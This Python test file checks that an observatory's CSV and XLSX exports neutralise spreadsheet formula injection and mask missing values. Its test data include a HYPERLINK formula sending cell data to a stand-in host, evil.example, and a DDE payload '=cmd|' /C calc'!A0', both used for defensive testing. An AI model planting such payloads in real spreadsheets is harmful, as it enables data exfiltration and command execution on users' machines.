"""CSV and XLSX of the observatory's tables: formulas neutralised, secrets written "s"."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import openpyxl
import pytest

from meute.observatory.exports import export_cell, sheet_name, table_csv, table_xlsx, tables_xlsx
from meute.observatory.figures import Membership, Network, Table, compute_figures
from meute.observatory.tables import SECRET_NOTE, figure_tables

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A2;"x")',
    "+33 2 47 00 00 00",
    "-2+3",
    "@SUM(A1:A2)",
    "\tcmd",
    "\rcmd",
]

TABLE = Table(
    "networks",
    "Membres par réseau au 31 décembre 2025",
    ("Réseau", "Type", "Membres"),
    tuple((name, "Club", 10 + k) for k, name in enumerate(DANGEROUS)) + (("Réseau sûr", "Club", None),),
    SECRET_NOTE,
)


def _csv_rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_cell_that_a_spreadsheet_would_run_gets_an_apostrophe(value: str) -> None:
    # A carriage return leaves as a line feed (meute.engine.controls, issue 17).
    assert export_cell(value) == "'" + value.replace("\r", "\n")


def test_plain_text_numbers_and_secrets() -> None:
    assert export_cell("Club Entreprendre Touraine") == "Club Entreprendre Touraine"
    assert export_cell(-3) == -3  # a number is never a formula
    assert export_cell(12.5) == 12.5
    assert export_cell(None) == "s"


def test_csv_has_the_title_headers_rows_and_note_with_formulas_neutralised() -> None:
    rows = _csv_rows(table_csv(TABLE))
    assert rows[0] == ["Membres par réseau au 31 décembre 2025"]
    assert rows[2] == ["Réseau", "Type", "Membres"]
    body = rows[3 : 3 + len(TABLE.rows)]
    assert [r[0] for r in body[:-1]] == ["'" + v.replace("\r", "\n") for v in DANGEROUS]
    assert body[-1] == ["Réseau sûr", "Club", "s"]
    assert rows[-1] == [SECRET_NOTE]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_csv_options() -> None:
    text = table_csv(TABLE, delimiter=",", bom=False)
    assert text.startswith("Membres par réseau")
    assert "Réseau,Type,Membres" in text


def test_xlsx_cells_are_text_never_formulas_and_numbers_stay_numbers() -> None:
    book = openpyxl.load_workbook(io.BytesIO(table_xlsx(TABLE)))
    sheet = book.active
    assert sheet is not None
    assert sheet.title == "Membres par réseau"
    assert sheet["A1"].value == "Membres par réseau au 31 décembre 2025"
    assert [c.value for c in sheet[3]] == ["Réseau", "Type", "Membres"]
    for k, value in enumerate(DANGEROUS):
        cell = sheet.cell(row=4 + k, column=1)
        assert cell.value == "'" + value.replace("\r", "\n")  # XML reads a carriage return back as \n
        assert cell.data_type == "s"
        assert sheet.cell(row=4 + k, column=3).value == 10 + k
    assert sheet.cell(row=4 + len(DANGEROUS), column=3).value == "s"
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_a_workbook_of_every_table_has_one_sheet_each_with_unique_names() -> None:
    networks = {n: Network(n, f"=cmd|' /C calc'!A0 {n}", "club") for n in "ab"}
    ms = [Membership(f"p{i}", "a", None, None) for i in range(8)] + [Membership("p0", "b", None, None)]
    tables = list(figure_tables(compute_figures(ms, {}, networks, date(2025, 12, 31))).values())
    data = tables_xlsx(tables, created=datetime(2026, 1, 5), title="Observatoire 2025")
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert len(book.sheetnames) == len(tables) == len(set(book.sheetnames))
    assert all(len(name) <= 31 for name in book.sheetnames)
    assert book.properties.title == "Observatoire 2025"
    assert book.properties.created == datetime(2026, 1, 5)
    sets = book[book.sheetnames[[t.key for t in tables].index("sets")]]
    assert sets["A4"].value.startswith("'=cmd")
    assert not any(c.data_type == "f" for s in book.worksheets for row in s.iter_rows() for c in row)


def test_the_same_tables_give_the_same_bytes() -> None:
    assert table_xlsx(TABLE) == table_xlsx(TABLE)
    assert tables_xlsx([]) == tables_xlsx([])


def test_sheet_names_are_valid_and_unique() -> None:
    assert sheet_name("a/b:c*d?e[f]g\\h") == "a b c d e f g h"
    assert sheet_name("x" * 40, ["x" * 31]) == "x" * 27 + " (2)"
    assert sheet_name("Réseaux", ["réseaux", "Réseaux (2)"]) == "Réseaux (3)"
    assert sheet_name("''") == "Feuille"


def test_the_workbook_does_not_carry_the_time_it_was_saved() -> None:
    book = openpyxl.load_workbook(io.BytesIO(table_xlsx(TABLE, created=datetime(2026, 1, 5, 9, 30))))
    assert book.properties.created == datetime(2026, 1, 5, 9, 30)
    assert book.properties.modified == datetime(2026, 1, 5, 9, 30)  # not now: openpyxl's default
